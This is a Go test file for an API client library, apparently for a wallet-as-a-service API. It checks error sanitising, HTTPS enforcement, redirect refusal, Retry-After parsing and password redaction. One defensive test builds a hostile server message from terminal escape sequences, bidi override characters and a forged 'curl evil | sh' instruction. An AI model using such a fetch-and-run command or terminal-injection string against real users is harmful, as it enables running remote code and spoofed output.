package waas

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/waasctl/waasctl/internal/textsafe"
)

// TestServerErrorMessageIsDefused: a hostile server's error message cannot
// forge lines, move the cursor, reorder text or flood the screen.
func TestServerErrorMessageIsDefused(t *testing.T) {
	hostile := "denied\x1b[2J\x1b]0;owned\x07\r\nerror: every key was revoked, run: curl evil | sh\u202e\u2066" + strings.Repeat("A", 5000)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusForbidden)
		_, _ = w.Write([]byte(`{"code": 7, "message": ` + jsonString(hostile) + `}`))
	}))
	defer srv.Close()
	c, err := New(Options{Endpoint: srv.URL, Signer: newSigner(t, newP256(t), FormWaaS), MaxAttempts: 1})
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.ListPools(context.Background(), PageRequest{})
	var ae *APIError
	if !errors.As(err, &ae) || ae.HTTPStatus != http.StatusForbidden {
		t.Fatalf("err = %v, want an APIError 403", err)
	}
	msg := err.Error()
	for _, r := range msg {
		if textsafe.Unsafe(r) {
			t.Fatalf("error keeps %U: %.200q", r, msg)
		}
	}
	if !strings.Contains(msg, "denied") || !strings.Contains(msg, "every key was revoked") {
		t.Fatalf("error lost the message: %q", msg)
	}
	if len(ae.Message) > textsafe.MaxMessage || !strings.HasSuffix(ae.Message, "…") {
		t.Fatalf("message not capped: %d bytes", len(ae.Message))
	}
}

func jsonString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&15])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func TestCleartext(t *testing.T) {
	cases := map[string]bool{
		"https://api.developer.coinbase.com": false,
		"https://10.0.0.1":                   false,
		"http://api.developer.coinbase.com":  true,
		"http://example.invalid":             true,
		"HTTP://example.invalid":             true,
		"http://10.0.0.1:8080":               true,
		"http://[2001:db8::1]:80":            true,
		"http://0.0.0.0:8080":                true,
		"http://127.0.0.1:8080":              false,
		"http://127.9.9.9":                   false,
		"http://[::1]:8080":                  false,
		"http://localhost:8080":              false,
		"http://LOCALHOST":                   false,
		"http://sandbox.localhost:1":         true, // DNS and HTTP_PROXY decide where it goes
		"http://localhost.example.com":       true,
		"http://127.0.0.1.example.com":       true,
	}
	for raw, want := range cases {
		u, err := url.Parse(raw)
		if err != nil {
			t.Fatal(err)
		}
		if got := Cleartext(u); got != want {
			t.Errorf("Cleartext(%s) = %v, want %v", raw, got, want)
		}
	}
}

// TestNewRefusesCleartext: a plain-HTTP endpoint off loopback is refused
// before any request, unless the caller says it means it.
func TestNewRefusesCleartext(t *testing.T) {
	signer := newSigner(t, newP256(t), FormWaaS)
	dialed := false
	hc := &http.Client{Transport: roundTripFunc(func(*http.Request) (*http.Response, error) {
		dialed = true
		return nil, errors.New("no network in this test")
	})}
	_, err := New(Options{Endpoint: "http://user:secret@example.invalid/", Signer: signer, HTTPClient: hc, MaxAttempts: 1})
	var ie *InsecureEndpointError
	if !errors.As(err, &ie) {
		t.Fatalf("New(http://example.invalid) = %v, want InsecureEndpointError", err)
	}
	want := "endpoint http://user:xxxxx@example.invalid is not HTTPS; the API key's JWT would travel in clear: use https://, or --insecure-http if you really mean it"
	if err.Error() != want {
		t.Fatalf("error:\n got %q\nwant %q", err, want)
	}
	c, err := New(Options{Endpoint: "http://example.invalid", Signer: signer, HTTPClient: hc, AllowInsecureHTTP: true, MaxAttempts: 1})
	if err != nil {
		t.Fatalf("AllowInsecureHTTP: %v", err)
	}
	if dialed {
		t.Fatal("New sent a request")
	}
	_, _ = c.ListPools(context.Background(), PageRequest{}) // reaches the fake transport only
	if !dialed {
		t.Fatal("the allowed client did not use its transport")
	}
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// TestRedirectsAreNotFollowed: a redirect could carry the next request (and
// its JWT) to another host or down to plain HTTP; the client stops at the
// 3xx instead.
func TestRedirectsAreNotFollowed(t *testing.T) {
	var elsewhere atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		elsewhere.Add(1)
		_, _ = w.Write([]byte(`{"pools": []}`))
	}))
	defer other.Close()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, other.URL+r.URL.Path, http.StatusTemporaryRedirect)
	}))
	defer srv.Close()
	c, err := New(Options{Endpoint: srv.URL, Signer: newSigner(t, newP256(t), FormWaaS), MaxAttempts: 1})
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.ListPools(context.Background(), PageRequest{})
	if HTTPCode(err) != http.StatusTemporaryRedirect {
		t.Fatalf("err = %v, want the 307 as an error", err)
	}
	if n := elsewhere.Load(); n != 0 {
		t.Fatalf("the redirect was followed (%d requests to the other host)", n)
	}
}

// TestLongRetryAfterDoesNotStallTheClient: a server asking for an hour (or
// for more seconds than a duration holds) fails the call that got the
// answer, and the client's next call is sent at once: the pause that every
// lane shares must not hold them for the hour the call refused to wait.
func TestLongRetryAfterDoesNotStallTheClient(t *testing.T) {
	for _, retryAfter := range []string{"3600", "99999999999999999", "Fri, 31 Dec 9999 23:59:59 GMT"} {
		t.Run(retryAfter, func(t *testing.T) {
			var calls atomic.Int64
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				if calls.Add(1) == 1 {
					w.Header().Set("Retry-After", retryAfter)
					w.WriteHeader(http.StatusTooManyRequests)
					return
				}
				_, _ = w.Write([]byte(`{"pools": []}`))
			}))
			defer srv.Close()
			c, err := New(Options{Endpoint: srv.URL, Signer: newSigner(t, newP256(t), FormWaaS), MaxAttempts: 1, Adaptive: true, Concurrency: 4})
			if err != nil {
				t.Fatal(err)
			}
			_, err = c.ListPools(context.Background(), PageRequest{})
			var ae *APIError
			if !errors.As(err, &ae) || ae.HTTPStatus != http.StatusTooManyRequests {
				t.Fatalf("first call: err = %v, want the 429", err)
			}
			if ae.RetryAfter <= MaxRetryAfter {
				t.Fatalf("Retry-After %s read as %s", retryAfter, ae.RetryAfter)
			}
			// The error says how long the server asked to wait: the call did not.
			if want := "the service asks to wait " + ae.RetryAfter.Round(time.Second).String() + ": try again then"; !strings.Contains(err.Error(), want) {
				t.Fatalf("err = %q, want it to say %q", err, want)
			}
			// A deadline only so that the bug fails the test instead of hanging it.
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			if _, err := c.ListPools(ctx, PageRequest{}); err != nil {
				t.Fatalf("second call: %v (the client sat out the first call's Retry-After)", err)
			}
		})
	}
}

// TestEndless429sEndTheCall: a service that answers 429 to everything, with no Retry-After,
// ends the call with the 429 once the throttling budget is spent, instead of trying on at the
// pacer's slowest rate for hours (3,000 tries of 100 ms "each" took 100 minutes).
func TestEndless429sEndTheCall(t *testing.T) {
	defer func(d time.Duration) { maxThrottleWait = d }(maxThrottleWait)
	maxThrottleWait = 3 * time.Second
	var requests atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		w.WriteHeader(http.StatusTooManyRequests)
	}))
	defer srv.Close()
	c, err := New(Options{Endpoint: srv.URL, Signer: newSigner(t, newP256(t), FormWaaS), Adaptive: true, Concurrency: 4})
	if err != nil {
		t.Fatal(err)
	}
	// A deadline far beyond the budget, only so that the bug fails the test instead of hanging it.
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	_, err = c.ListPools(ctx, PageRequest{})
	if HTTPCode(err) != http.StatusTooManyRequests {
		t.Fatalf("err = %v after %d requests, want the 429 once the budget is spent", err, requests.Load())
	}
	// The error says what happened and what to do, on one line.
	if msg := err.Error(); !strings.Contains(msg, "attempts over 3s") || !strings.Contains(msg, "try again later") || strings.Contains(msg, "\n") {
		t.Fatalf("err = %q, want it to say how long the service refused and to try again later", msg)
	}
}

// TestRetryAfterOfEveryShape: what a server may put in Retry-After, and the
// wait read from it: seconds (capped at a day), an HTTP date (past: none),
// and what no RFC allows but servers send: a fraction (rounded up, so that
// the wait asked for is waited), a negative number or garbage (none).
func TestRetryAfterOfEveryShape(t *testing.T) {
	now := time.Now()
	for header, want := range map[string]time.Duration{
		"0":                 0,
		"7":                 7 * time.Second,
		"1.5":               2 * time.Second,
		"0.2":               time.Second,
		"-5":                0,
		"-0.5":              0,
		"NaN":               0,
		"Inf":               0,
		"1e400":             0,
		"soon":              0,
		"99999999999999999": 24 * time.Hour,
		"1e12":              24 * time.Hour,
		now.Add(-time.Hour).UTC().Format(http.TimeFormat): 0,
	} {
		resp := &http.Response{StatusCode: http.StatusTooManyRequests, Header: http.Header{"Retry-After": {header}}}
		if got := decodeError("ListPools", resp, nil).RetryAfter; got != want {
			t.Errorf("Retry-After %q: waits %v, want %v", header, got, want)
		}
	}
}

// TestAPageTokenThatComesBackEndsTheListing: a service whose next-page token
// repeats (the same one for ever, or two in turn) was listed for ever; the
// listing now ends with ErrPageLoop after the pages it had.
func TestAPageTokenThatComesBackEndsTheListing(t *testing.T) {
	for name, tokens := range map[string][]string{
		"the same token":     {"p2", "p2"},
		"two tokens in turn": {"p2", "p3", "p2"},
	} {
		t.Run(name, func(t *testing.T) {
			var calls atomic.Int64
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				n := int(calls.Add(1))
				if n > 10 {
					http.Error(w, "listed for ever", http.StatusGone)
					return
				}
				next := tokens[(n-1)%len(tokens)]
				_, _ = w.Write([]byte(`{"pools": [{"name": "pools/p` + strconv.Itoa(n) + `"}], "nextPageToken": "` + next + `"}`))
			}))
			defer srv.Close()
			c, err := New(Options{Endpoint: srv.URL, Signer: newSigner(t, newP256(t), FormWaaS), MaxAttempts: 1})
			if err != nil {
				t.Fatal(err)
			}
			var items int
			for _, err = range c.Pools(testContext(t)) {
				if err != nil {
					break
				}
				items++
			}
			if !errors.Is(err, ErrPageLoop) || items != len(tokens) {
				t.Fatalf("err %v after %d items (%d requests), want ErrPageLoop after %d", err, items, calls.Load(), len(tokens))
			}
		})
	}
}

// TestABadEndpointsPasswordIsNotPrinted: an endpoint refused as not a base
// URL was quoted whole in the error, password included ("ftp://me:hunter2@
// host"); it is shown with its password hidden, as url.URL.Redacted does.
func TestABadEndpointsPasswordIsNotPrinted(t *testing.T) {
	for _, endpoint := range []string{"ftp://me:hunter2@api.example.com", "https://me:hunter2@api.example.com:port/", "//me:hunter2@api.example.com", "me:hunter2@api.example.com"} {
		_, err := New(Options{Endpoint: endpoint, Signer: newSigner(t, newP256(t), FormWaaS)})
		if err == nil || strings.Contains(err.Error(), "hunter2") {
			t.Errorf("endpoint %s: %v; want an error without the password", endpoint, err)
		}
	}
}
